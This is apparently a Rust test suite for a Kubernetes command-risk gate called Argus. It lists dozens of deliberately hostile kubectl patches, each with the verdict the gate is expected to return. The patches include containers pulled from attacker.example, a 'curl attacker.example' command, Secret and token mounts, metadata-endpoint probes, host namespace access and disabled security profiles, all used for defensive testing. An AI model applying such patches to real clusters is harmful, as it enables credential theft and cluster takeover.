//! Patches that no careful person would apply, each with the right answer, in memory and on a real API server.
#![expect(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stderr,
    reason = "tests"
)]

#[path = "sweep/pipeline.rs"]
mod pipeline;
#[path = "walk/world.rs"]
#[allow(dead_code, reason = "the tests of `walk` use the rest of it")]
mod world;

use argus_core::{Risk, Verdict};
use pipeline::{Outcome, Pipeline, plan};
use serde_json::{Value, json};
use world::{World, builtin};

/// The right answer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Answer {
    /// Refused, whatever a host allows.
    Never,
    /// High risk: refused unless a host allows it.
    High,
    /// Medium risk: a person approves it.
    Person,
}
use Answer::{High, Never, Person};

/// What is wrong with it, what it is patched, by which kind of patch, and the patch; `{pod}` and `{app}` stand for the
/// path to a pod's spec and to its container `app`.
const PATCHES: &[(&str, Answer, &str, &str, &str)] = &[
    // A container that wasn't there, however it is written.
    (
        "a stranger's container that mounts a Secret's volume",
        High,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"evil","image":"attacker.example/x:1","volumeMounts":[{"name":"creds","mountPath":"/creds"}]}]}}}}"#,
    ),
    (
        "the same by JSON patch",
        High,
        "deployment/web",
        "json",
        r#"[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"evil","image":"attacker.example/x:1","volumeMounts":[{"name":"creds","mountPath":"/creds"}]}}]"#,
    ),
    (
        "a sidecar that starts before all others",
        High,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"initContainers":[{"name":"evil","image":"attacker.example/x:1","restartPolicy":"Always"}]}}}}"#,
    ),
    (
        "a container of no Pod Security at all, where all others are hardened",
        Never,
        "deployment/hardened",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"evil","image":"attacker.example/x:1"}]}}}}"#,
    ),
    (
        "an existing Secret's volume for a container that had none",
        High,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","volumeMounts":[{"name":"creds","mountPath":"/creds"}]}]}}}}"#,
    ),
    // Labels and annotations.
    (
        "a role of the cloud",
        High,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"metadata":{"annotations":{"iam.amazonaws.com/role":"admin"}}}}}"#,
    ),
    (
        "a secret of Vault",
        Never,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"metadata":{"annotations":{"vault.hashicorp.com/agent-inject-secret-x":"prod/root"}}}}}"#,
    ),
    (
        "another network",
        High,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"metadata":{"annotations":{"k8s.v1.cni.cncf.io/networks":"host"}}}}}"#,
    ),
    (
        "AppArmor switched off by annotation",
        Never,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"metadata":{"annotations":{"container.apparmor.security.beta.kubernetes.io/app":"unconfined"}}}}}"#,
    ),
    (
        "an identity of the cloud by label",
        High,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"metadata":{"labels":{"azure.workload.identity/use":"true"}}}}}"#,
    ),
    (
        "a label that a NetworkPolicy lets through",
        High,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"metadata":{"labels":{"access":"db"}}}}}"#,
    ),
    (
        "what Argus is told to overlook",
        Never,
        "service/web",
        "merge",
        r#"{"metadata":{"annotations":{"argus-ops/ignore":"all"}}}"#,
    ),
    (
        "what `kubectl apply` will remove",
        Never,
        "deployment/web",
        "merge",
        r#"{"metadata":{"annotations":{"kubectl.kubernetes.io/last-applied-configuration":"{\"spec\":{\"template\":{\"spec\":{\"securityContext\":{}}}}}"}},"spec":{"minReadySeconds":1}}"#,
    ),
    (
        "what the Deployment's controller notes down",
        Never,
        "deployment/web",
        "merge",
        r#"{"metadata":{"annotations":{"deployment.kubernetes.io/revision":"77"}},"spec":{"minReadySeconds":1}}"#,
    ),
    (
        "a server snippet, which reads all Secrets",
        High,
        "ingress/web",
        "merge",
        r#"{"metadata":{"annotations":{"nginx.ingress.kubernetes.io/server-snippet":"return 200;"}}}"#,
    ),
    (
        "another name in the world",
        High,
        "ingress/web",
        "merge",
        r#"{"metadata":{"annotations":{"external-dns.alpha.kubernetes.io/hostname":"bank.example"}}}"#,
    ),
    (
        "a certificate of another issuer",
        High,
        "ingress/web",
        "merge",
        r#"{"metadata":{"annotations":{"cert-manager.io/cluster-issuer":"prod"}}}"#,
    ),
    (
        "a load balancer for the world",
        High,
        "service/web",
        "merge",
        r#"{"metadata":{"annotations":{"service.beta.kubernetes.io/aws-load-balancer-internal":"false"}}}"#,
    ),
    // Services and Ingresses.
    (
        "a Service of another app",
        High,
        "service/web",
        "merge",
        r#"{"spec":{"selector":{"app":"other"}}}"#,
    ),
    (
        "a Service of nothing",
        High,
        "service/web",
        "merge",
        r#"{"spec":{"selector":{"app":"nobody"}}}"#,
    ),
    (
        "a load balancer's list of friends taken away",
        High,
        "service/web",
        "merge",
        r#"{"spec":{"loadBalancerSourceRanges":null}}"#,
    ),
    (
        "another controller for an Ingress",
        High,
        "ingress/web",
        "merge",
        r#"{"spec":{"ingressClassName":"other"}}"#,
    ),
    (
        "another Secret for an Ingress",
        Never,
        "ingress/web",
        "merge",
        r#"{"spec":{"tls":[{"hosts":["shop.example"],"secretName":"prod-root"}]}}"#,
    ),
    // What a pod resolves, asks and tolerates.
    (
        "another address for a name",
        High,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"spec":{"hostAliases":[{"ip":"6.6.6.6","hostnames":["db"]}]}}}}"#,
    ),
    (
        "another name server",
        High,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"spec":{"dnsPolicy":"None","dnsConfig":{"nameservers":["6.6.6.6"]}}}}}"#,
    ),
    (
        "a probe that asks the cloud's metadata",
        Never,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","livenessProbe":{"httpGet":{"host":"169.254.169.254"}}}]}}}}"#,
    ),
    (
        "a hook that asks the cloud's metadata",
        Never,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","lifecycle":{"postStart":{"httpGet":{"host":"169.254.169.254","port":80}}}}]}}}}"#,
    ),
    (
        "any node",
        High,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"spec":{"tolerations":[{"operator":"Exists"}]}}}}"#,
    ),
    (
        "no time to stop",
        High,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"spec":{"terminationGracePeriodSeconds":0}}}}"#,
    ),
    (
        "an image of another registry",
        High,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"attacker.example/web:1"}]}}}}"#,
    ),
    (
        "another command",
        High,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","command":["sh","-c","curl attacker.example"]}]}}}}"#,
    ),
    (
        "a password in the clear",
        High,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","env":[{"name":"DB_PASSWORD","value":"hunter3"}]}]}}}}"#,
    ),
    // Secrets and tokens by any route.
    (
        "a Secret's volume",
        Never,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"volumes":[{"name":"s","secret":{"secretName":"prod-root"}}],"containers":[{"name":"app","volumeMounts":[{"name":"s","mountPath":"/s"}]}]}}}}"#,
    ),
    (
        "a Secret as variables",
        Never,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","envFrom":[{"secretRef":{"name":"prod-root"}}]}]}}}}"#,
    ),
    (
        "a key of a Secret as a variable",
        Never,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","env":[{"name":"ROOT","valueFrom":{"secretKeyRef":{"name":"prod-root","key":"a"}}}]}]}}}}"#,
    ),
    (
        "a projected Secret",
        Never,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"volumes":[{"name":"s","projected":{"sources":[{"secret":{"name":"prod-root"}}]}}]}}}}"#,
    ),
    (
        "a projected token",
        Never,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"volumes":[{"name":"s","projected":{"sources":[{"serviceAccountToken":{"path":"token"}}]}}]}}}}"#,
    ),
    (
        "a driver that hands out secrets",
        Never,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"volumes":[{"name":"s","csi":{"driver":"secrets-store.csi.k8s.io","readOnly":true,"volumeAttributes":{"secretProviderClass":"prod"}}}]}}}}"#,
    ),
    (
        "another pull secret",
        Never,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"imagePullSecrets":[{"name":"prod-root"}]}}}}"#,
    ),
    (
        "the service account's token",
        Never,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"spec":{"automountServiceAccountToken":true}}}}"#,
    ),
    (
        "another service account",
        Never,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"spec":{"serviceAccountName":"admin"}}}}"#,
    ),
    (
        "a disk of the network",
        Never,
        "deployment/hardened",
        "strategic",
        r#"{"spec":{"template":{"spec":{"volumes":[{"name":"n","nfs":{"server":"nfs.example","path":"/"}}]}}}}"#,
    ),
    (
        "a claim that was not used",
        High,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"volumes":[{"name":"n","persistentVolumeClaim":{"claimName":"other"}}]}}}}"#,
    ),
    // Security fields.
    (
        "a hardened container laid open",
        Never,
        "deployment/hardened",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","securityContext":{"allowPrivilegeEscalation":null,"seccompProfile":{"type":"Unconfined"}}}]}}}}"#,
    ),
    (
        "capabilities that were dropped",
        Never,
        "deployment/hardened",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","securityContext":{"capabilities":{"drop":null}}}]}}}}"#,
    ),
    (
        "a root that was read-only",
        Never,
        "deployment/hardened",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","securityContext":{"readOnlyRootFilesystem":null}}]}}}}"#,
    ),
    (
        "AppArmor switched off by field",
        Never,
        "deployment/hardened",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","securityContext":{"appArmorProfile":{"type":"Unconfined"}}}]}}}}"#,
    ),
    (
        "all of /proc",
        Never,
        "deployment/hardened",
        "strategic",
        r#"{"spec":{"template":{"spec":{"hostUsers":false,"containers":[{"name":"app","securityContext":{"procMount":"Unmasked"}}]}}}}"#,
    ),
    (
        "another SELinux label",
        Never,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"spec":{"securityContext":{"seLinuxOptions":{"type":"spc_t"}}}}}}"#,
    ),
    (
        "a setting of the kernel",
        Never,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"securityContext":{"sysctls":[{"name":"kernel.msgmax","value":"1"}]}}}}}"#,
    ),
    (
        "the group root",
        Never,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"spec":{"securityContext":{"supplementalGroups":[0]}}}}}"#,
    ),
    (
        "one container that sees the others' processes",
        Never,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"spec":{"shareProcessNamespace":true}}}}"#,
    ),
    (
        "the node's users",
        Never,
        "deployment/hardened",
        "merge",
        r#"{"spec":{"template":{"spec":{"hostUsers":true}}}}"#,
    ),
    (
        "the node's network",
        Never,
        "deployment/web",
        "merge",
        r#"{"spec":{"template":{"spec":{"hostNetwork":true}}}}"#,
    ),
    (
        "a port of the node",
        Never,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","ports":[{"containerPort":8080,"hostPort":8080}]}]}}}}"#,
    ),
    (
        "a path of the node",
        Never,
        "deployment/web",
        "strategic",
        r#"{"spec":{"template":{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}}}"#,
    ),
    (
        "a path of the node that was only read",
        Never,
        "deployment/agent",
        "strategic",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","volumeMounts":[{"name":"logs","mountPath":"/logs","readOnly":false}]}]}}}}"#,
    ),
    // Storage.
    (
        "storage kept no longer",
        Never,
        "statefulset/db",
        "merge",
        r#"{"spec":{"persistentVolumeClaimRetentionPolicy":{"whenScaled":"Delete","whenDeleted":"Delete"}}}"#,
    ),
    (
        "storage deleted with a copy",
        Never,
        "statefulset/db",
        "merge",
        r#"{"spec":{"replicas":2,"persistentVolumeClaimRetentionPolicy":{"whenScaled":"Delete","whenDeleted":"Delete"}}}"#,
    ),
    // Ways to switch an app off.
    (
        "no node has such a label",
        High,
        "daemonset/agent",
        "merge",
        r#"{"spec":{"template":{"spec":{"nodeSelector":{"no":"node"}}}}}"#,
    ),
    (
        "an autoscaler to one copy",
        High,
        "hpa/web",
        "merge",
        r#"{"spec":{"minReplicas":1,"maxReplicas":1}}"#,
    ),
    (
        "an autoscaler of another app",
        High,
        "hpa/web",
        "merge",
        r#"{"spec":{"scaleTargetRef":{"name":"hardened"}}}"#,
    ),
    (
        "a job that no longer runs",
        High,
        "cronjob/report",
        "merge",
        r#"{"spec":{"suspend":true}}"#,
    ),
    (
        "more copies than anybody may ask for",
        Never,
        "deployment/web",
        "merge",
        r#"{"spec":{"replicas":5000}}"#,
    ),
    // What may be asked of a person.
    (
        "many more copies",
        Person,
        "deployment/web",
        "merge",
        r#"{"spec":{"replicas":20}}"#,
    ),
];

async fn create(world: &World) {
    let hardened = json!({ "allowPrivilegeEscalation": false, "readOnlyRootFilesystem": true, "capabilities": { "drop": ["ALL"] },
        "seccompProfile": { "type": "RuntimeDefault" }, "appArmorProfile": { "type": "RuntimeDefault" } });
    let workload = |kind: &str, name: &str, pod: Value| {
        json!({ "apiVersion": "apps/v1", "kind": kind, "metadata": { "name": name },
            "spec": { "selector": { "matchLabels": { "app": name } }, "template": { "metadata": { "labels": { "app": name } }, "spec": pod } } })
    };
    let web = json!({ "automountServiceAccountToken": false, "securityContext": { "runAsNonRoot": true, "runAsUser": 1000 },
        "volumes": [{ "name": "creds", "secret": { "secretName": "web", "optional": true } }],
        "containers": [{ "name": "app", "image": "r.example/web:1", "command": ["web"], "env": [{ "name": "DB_PASSWORD", "value": "hunter2" }],
            "livenessProbe": { "httpGet": { "path": "/", "port": 8080 } } }] });
    let closed = json!({ "automountServiceAccountToken": false, "hostUsers": false, "securityContext": { "runAsNonRoot": true, "runAsUser": 1000 },
        "containers": [{ "name": "app", "image": "r.example/web:1", "securityContext": hardened }] });
    let agent = json!({ "volumes": [{ "name": "logs", "hostPath": { "path": "/var/log" } }],
        "containers": [{ "name": "app", "image": "r.example/agent:1", "volumeMounts": [{ "name": "logs", "mountPath": "/logs", "readOnly": true }] }] });
    let plain = json!({ "containers": [{ "name": "app", "image": "r.example/db:1" }] });
    let mut database = workload("StatefulSet", "db", plain.clone());
    database["spec"]["replicas"] = json!(3);
    database["spec"]["serviceName"] = json!("db");
    database["spec"]["volumeClaimTemplates"] = json!([{ "metadata": { "name": "disk" },
        "spec": { "accessModes": ["ReadWriteOnce"], "resources": { "requests": { "storage": "1Gi" } } } }]);
    let job = json!({ "template": { "spec": { "restartPolicy": "Never", "containers": plain["containers"] } } });
    for object in [
        workload("Deployment", "web", web),
        workload("Deployment", "other", plain.clone()),
        workload("Deployment", "hardened", closed),
        workload("Deployment", "agent", agent),
        workload("DaemonSet", "agent", plain),
        database,
        json!({ "apiVersion": "batch/v1", "kind": "CronJob", "metadata": { "name": "report" }, "spec": { "schedule": "0 3 * * *", "jobTemplate": { "spec": job } } }),
        json!({ "apiVersion": "v1", "kind": "Service", "metadata": { "name": "web" }, "spec": { "type": "LoadBalancer", "loadBalancerClass": "example.com/none",
            "selector": { "app": "web" }, "ports": [{ "port": 80, "targetPort": 8080 }], "loadBalancerSourceRanges": ["10.0.0.0/8"] } }),
        json!({ "apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": { "name": "web" }, "spec": { "ingressClassName": "nginx",
            "tls": [{ "hosts": ["shop.example"], "secretName": "tls" }],
            "defaultBackend": { "service": { "name": "web", "port": { "number": 80 } } } } }),
        json!({ "apiVersion": "autoscaling/v2", "kind": "HorizontalPodAutoscaler", "metadata": { "name": "web" }, "spec": { "minReplicas": 3, "maxReplicas": 10,
            "scaleTargetRef": { "apiVersion": "apps/v1", "kind": "Deployment", "name": "other" } } }),
    ] {
        world.create_any(&object).await;
    }
    for name in ["web", "other", "hardened", "agent"] {
        world.wait_ready(name).await;
    }
}

/// The wrong answers, in words.
async fn wrong_answers(world: &World) -> Vec<String> {
    create(world).await;
    let pipeline = Pipeline::new(world.kube_of_admin(), &world.scope(), &builtin());
    let namespace = world.namespace();
    let scale = format!("kubectl scale deployment/web -n {namespace} --replicas=100");
    let patches = PATCHES.iter().map(|(name, answer, target, kind, patch)| {
        let quoted = patch.replace('\'', r"'\''");
        (
            *name,
            *answer,
            format!("kubectl patch {target} -n {namespace} --type={kind} -p '{quoted}'"),
        )
    });
    let mut wrong = Vec::new();
    for (name, answer, command) in
        patches.chain([("a hundred copies instead of one", Person, scale)])
    {
        let outcome = pipeline.judge(plan(json!({ "command": command }))).await.0;
        let right = match answer {
            Never => matches!(
                outcome,
                Outcome::Parse(_) | Outcome::Floor(_) | Outcome::Policy(_)
            ),
            High => matches!(outcome, Outcome::High(_)),
            Person => matches!(
                outcome,
                Outcome::Allowed(Risk::Medium, Verdict::RequireApproval)
            ),
        };
        if !right {
            wrong.push(format!(
                "{name}: {outcome:?} instead of {answer:?}\n    {command}"
            ));
        }
    }
    wrong
}

fn assert_none(wrong: &[String]) {
    assert!(
        wrong.is_empty(),
        "{} of {} answers are wrong:\n  {}",
        wrong.len(),
        PATCHES.len() + 1,
        wrong.join("\n  ")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn every_answer_is_the_right_one_in_memory() {
    assert_none(&wrong_answers(&World::memory().await).await);
}

#[tokio::test(flavor = "multi_thread")]
async fn every_answer_is_the_right_one_on_a_real_api_server() {
    let Some(world) = World::real().await else {
        return;
    };
    let wrong = wrong_answers(&world).await;
    world.end().await;
    assert_none(&wrong);
}
